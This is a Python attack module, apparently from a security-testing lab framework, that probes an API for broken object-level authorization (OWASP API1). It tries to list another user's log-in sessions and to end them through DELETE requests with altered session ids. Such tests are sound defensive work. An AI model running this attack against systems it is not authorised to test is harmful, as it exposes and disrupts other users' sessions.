"""Look where somebody else is logged in, and log them out.

Exploits a list of log-ins that shows those of others, or a server that ends whichever log-in the
path names, whosever it is.
Source: OWASP API Security Top 10 2023, API1 Broken Object Level Authorization,
https://owasp.org/API-Security/editions/2023/en/0xa1-broken-object-level-authorization/
ASVS: 8.2.2
"""

from collections.abc import Iterator

import httpx

from attacks.lab.attack import attack
from attacks.lab.outcome import Outcome, got_in, refused
from attacks.lab.target import NotApplicableError, Person, Target, borne
from attacks.lab.ways_out import MISSING, Tokens, goes_on, sid_of


def lists(target: Target, victim: Person) -> Iterator[tuple[str, httpx.Response]]:
    """Ask for the log-ins of the attacker's own account, and for those of the victim."""
    header = borne(target.token_of(target.attacker))
    user = target.subject_of(victim)
    for trick, query in {
        "as usual": {},
        "with a name": {"username": victim.username},
        "with an id": {"user_id": user, "sub": user},
    }.items():
        yield trick, target.http.get("/auth/logins", params=query, headers=header)


def ends(target: Target, sid: str) -> Iterator[tuple[str, httpx.Request]]:
    """End a log-in with a token of the attacker's own; last, end all, which are to be their own."""
    header = borne(target.token_of(target.attacker))
    spellings = {"as it is": f"/{sid}", "in capitals": f"/{sid.upper()}", "no log-in named": ""}
    for trick, path in spellings.items():
        yield trick, target.http.build_request("DELETE", f"/auth/logins{path}", headers=header)


@attack()
def run(target: Target) -> Outcome:
    """Look for the victim in each list; end the victim's log-in, and see whether it goes on."""
    victim = target.enrol()
    tokens: Tokens = target.tokens_of(victim)
    listed = dict(lists(target, victim))
    if any(answer.status_code in MISSING for answer in listed.values()):
        raise NotApplicableError("nobody can see log-ins here")
    sid = sid_of(tokens)
    for trick, answer in listed.items():
        if sid in answer.text:
            return got_in(f"the list, {trick}: the log-in of somebody else")
    for trick, request in ends(target, sid):
        answer = target.http.send(request)
        alive = goes_on(target, tokens)
        if alive is None:
            return got_in(f"the end of it, {trick}: {answer.status_code}, the victim is logged out")
        tokens = alive
    return refused(f"{len(listed)} lists without the log-in of the victim, whom nothing logs out")
